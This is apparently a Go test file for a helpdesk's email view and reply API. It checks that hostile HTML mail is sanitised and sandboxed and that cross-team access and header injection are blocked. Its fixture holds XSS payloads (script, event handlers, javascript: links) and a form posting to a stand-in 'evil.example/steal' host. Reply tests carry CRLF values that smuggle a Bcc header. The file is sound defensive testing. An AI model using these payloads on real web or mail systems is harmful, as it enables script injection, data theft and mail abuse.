package web_test

import (
	"context"
	"net/http"
	"strings"
	"testing"

	"huiliu/channels"
	"huiliu/desk"
)

// hostileMail is an HTML mail with every trick the mail view must defuse:
// script, event handlers, script and data URLs, CSS, a tracking pixel, a
// form, a meta refresh and a <base>, besides an inline (cid:) picture.
const hostileMail = `<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body{background:url(https://track.example/css.png)} p{width:expression(alert(1))}</style>
<script>window.__pwned = 1</script></head><body>
<p onclick="window.__pwned=2" style="background:url(https://track.example/style.png)">您好，附件是合同。</p>
<img src="https://track.example/pixel.gif?u=1" onerror="window.__pwned=3" alt="pixel">
<img src="cid:logo@mail" alt="logo">
<a href="javascript:window.__pwned=4">click</a> <a href="https://example.com/help">help</a>
<form action="https://evil.example/steal"><input name="p"><button>go</button></form>
<iframe src="https://evil.example/"></iframe><svg onload="window.__pwned=5"></svg>
<blockquote>earlier mail from us</blockquote></body></html>`

// pngPixel is a 1×1 PNG.
var pngPixel = []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")

// ingestMail stores an email from a customer on a ticket of team A and
// returns the ticket and the message.
func (h *harness) ingestMail(extID, html string) (desk.Ticket, desk.Message) {
	h.t.Helper()
	ctx := context.Background()
	rc, err := h.svc.Ingest(ctx, channels.Inbound{
		Channel: "email", ExternalID: extID, ThreadKey: "support",
		From: channels.Party{Kind: "email", Value: "wang@example.com", Name: "王先生"},
		Text: "您好，附件是合同。\n\n在 2026年12月1日，客服 写道：\n> earlier mail from us\n", HTML: html,
		Attachments: []channels.Attachment{{Name: "logo.png", MIME: "image/png", Data: pngPixel, ContentID: "logo@mail"}},
		Email: &channels.Email{
			Mailbox: "support", MessageID: extID + "@mail.example.com", Subject: "合同问题",
			From:    channels.Party{Kind: "email", Value: "wang@example.com", Name: "王先生"},
			To:      []channels.Party{{Kind: "email", Value: "support@example.com"}},
			Cc:      []channels.Party{{Kind: "email", Value: "li@example.net", Name: "李四"}, {Kind: "email", Value: "wang@example.com"}},
			HasHTML: html != "",
		},
	})
	if err != nil {
		h.t.Fatal(err)
	}
	h.moveToTeam(rc.TicketID, "A")
	t, err := h.db.Ticket(ctx, rc.TicketID)
	if err != nil {
		h.t.Fatal(err)
	}
	m, err := h.db.Message(ctx, rc.MessageID)
	if err != nil {
		h.t.Fatal(err)
	}
	return t, m
}

func TestMailViewIsInert(t *testing.T) {
	h := newHarness(t)
	_, m := h.ingestMail("hostile-1", hostileMail)
	c := h.signIn("li@example.com")

	resp, body := h.page(c, "/desk/messages/"+m.ID+"/html")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("mail view: %d %s", resp.StatusCode, body)
	}
	csp := resp.Header.Get("Content-Security-Policy")
	for _, want := range []string{"default-src 'none'", "img-src data:;", "form-action 'none'", "base-uri 'none'", "frame-ancestors 'self'", "sandbox allow-popups"} {
		if !strings.Contains(csp, want) {
			t.Errorf("CSP %q lacks %q", csp, want)
		}
	}
	if strings.Contains(csp, "script-src") || strings.Contains(csp, "allow-scripts") || strings.Contains(csp, "allow-same-origin") {
		t.Errorf("CSP %q lets something run", csp)
	}
	if got := resp.Header.Get("X-Frame-Options"); got != "SAMEORIGIN" {
		t.Errorf("X-Frame-Options %q", got)
	}
	lower := strings.ToLower(body)
	for _, bad := range []string{"<script", "__pwned", "javascript:", "onerror", "onclick", "onload", "<form", "<iframe", "<base", "http-equiv", "expression(", "track.example/pixel.gif\"", "evil.example"} {
		if strings.Contains(lower, bad) {
			t.Errorf("mail view holds %q:\n%s", bad, body)
		}
	}
	for _, want := range []string{`src="data:image/png;base64,`, `target="_blank"`, `rel="noopener noreferrer nofollow"`, `<details class="quoted">`, "您好，附件是合同。", "data-blocked"} {
		if !strings.Contains(body, want) {
			t.Errorf("mail view lacks %q:\n%s", want, body)
		}
	}

	// Shown on request: remote https pictures load, nothing else changes.
	resp, body = h.page(c, "/desk/messages/"+m.ID+"/html?images=1")
	if csp := resp.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "img-src data: https:;") || strings.Contains(csp, "script-src") {
		t.Errorf("CSP with images: %q", csp)
	}
	if !strings.Contains(body, `src="https://track.example/pixel.gif?u=1"`) || strings.Contains(body, "onerror") {
		t.Errorf("mail view with images:\n%s", body)
	}
}

func TestMailViewVisibility(t *testing.T) {
	h := newHarness(t)
	_, m := h.ingestMail("vis-1", "<p>hello</p>")
	h.createAgent("zhao@example.com", "赵六", desk.RoleAgent, "B")
	stranger := h.signIn("zhao@example.com")
	for _, path := range []string{"/desk/messages/%s/html", "/desk/messages/%s/entry"} {
		resp, body := h.page(stranger, strings.Replace(path, "%s", m.ID, 1))
		unknownResp, unknown := h.page(stranger, strings.Replace(path, "%s", "01J0000000000000000000NONE", 1))
		if resp.StatusCode != http.StatusNotFound || unknownResp.StatusCode != http.StatusNotFound || strings.ReplaceAll(body, m.ID, "ID") != strings.ReplaceAll(unknown, "01J0000000000000000000NONE", "ID") {
			t.Errorf("%s for another team: %d, unknown id: %d; the pages differ beyond the id", path, resp.StatusCode, unknownResp.StatusCode)
		}
		if strings.Contains(body, "hello") {
			t.Errorf("%s shows the mail to another team", path)
		}
	}
	// Without a session: the login form, not the mail.
	resp, _ := h.page(pageClient(), "/desk/messages/"+m.ID+"/html")
	if resp.StatusCode != http.StatusSeeOther {
		t.Errorf("no session: %d", resp.StatusCode)
	}
	// A message without HTML has no HTML view.
	_, plain := h.ingestMail("plain-1", "")
	own := h.signIn("li@example.com")
	if resp, _ := h.page(own, "/desk/messages/"+plain.ID+"/html"); resp.StatusCode != http.StatusNotFound {
		t.Errorf("plain mail's HTML view: %d", resp.StatusCode)
	}
	if resp, body := h.page(own, "/desk/messages/"+m.ID+"/entry"); resp.StatusCode != http.StatusOK || !strings.Contains(body, "合同问题") || !strings.Contains(body, `data-hl="mail-show-html"`) {
		t.Errorf("entry fragment: %d %s", resp.StatusCode, body)
	}
}

func TestTicketPageShowsMail(t *testing.T) {
	h := newHarness(t)
	tk, _ := h.ingestMail("page-1", "<p>hi</p>")
	c := h.signIn("li@example.com")
	resp, body := h.page(c, "/tickets/"+tk.ID)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("ticket page: %d", resp.StatusCode)
	}
	for _, want := range []string{
		`data-hl="mail-subject">合同问题`, "王先生 &lt;wang@example.com&gt;", "support@example.com",
		`data-hl="mail-quoted"`, "> earlier mail from us", // folded, still there
		`data-hl="mail-reply-subject" maxlength="998" value="Re: 合同问题"`,
		`value="&#34;李四&#34; &lt;li@example.net&gt;"`, // the customer's own address is not Cc'd
		"emaildesk.js",
	} {
		if !strings.Contains(body, strings.ReplaceAll(want, ">", "&gt;")) && !strings.Contains(body, want) {
			t.Errorf("ticket page lacks %q", want)
		}
	}
}

func TestReplySubjectAndCc(t *testing.T) {
	h := newHarness(t)
	tk, _ := h.ingestMail("reply-1", "")
	path := "/api/v1/tickets/" + tk.ID + "/messages"
	var m desk.Message
	resp := h.call("POST", path, h.agent, map[string]any{"kind": "reply", "text": "已收到", "subject": "回复：合同问题", "cc": "李四 <li@example.net>, boss@example.com, BOSS@example.com"}, &m)
	if resp.StatusCode != http.StatusCreated {
		t.Fatalf("reply: %d", resp.StatusCode)
	}
	stored, err := h.db.Message(context.Background(), m.ID)
	if err != nil {
		t.Fatal(err)
	}
	if e := stored.Email; e == nil || e.Subject != "回复：合同问题" || len(e.Cc) != 2 || e.Cc[0].Name != "李四" || e.Cc[1].Value != "boss@example.com" {
		t.Fatalf("stored header %+v", stored.Email)
	}
	for name, body := range map[string]map[string]any{
		"CR/LF in subject":      {"text": "x", "subject": "hi\r\nBcc: all@example.com"},
		"CR/LF in cc":           {"text": "x", "cc": "a@example.com\r\nBcc: all@example.com"},
		"encoded CR/LF in name": {"text": "x", "cc": "=?utf-8?q?a=0D=0ABcc:_x@example.com?= <a@example.com>"},
		"not an address":        {"text": "x", "cc": "nobody"},
		"too many cc":           {"text": "x", "cc": strings.Repeat("a@example.com, ", desk.MaxReplyCc) + "z@example.com"},
		"subject too long":      {"text": "x", "subject": strings.Repeat("长", desk.MaxEmailSubjectBytes)},
	} {
		var e apiError
		if r := h.call("POST", path, h.agent, body, &e); r.StatusCode != http.StatusBadRequest && r.StatusCode != http.StatusRequestEntityTooLarge {
			t.Errorf("%s: %d %+v", name, r.StatusCode, e)
		}
	}
	// Another channel's ticket has no subject or Cc.
	other := h.inbound("api-1", "cust-x", "hello")
	if r := h.call("POST", "/api/v1/tickets/"+other.ID+"/messages", h.admin, map[string]any{"text": "x", "cc": "a@example.com"}, nil); r.StatusCode != http.StatusBadRequest {
		t.Errorf("cc on an api ticket: %d", r.StatusCode)
	}
}
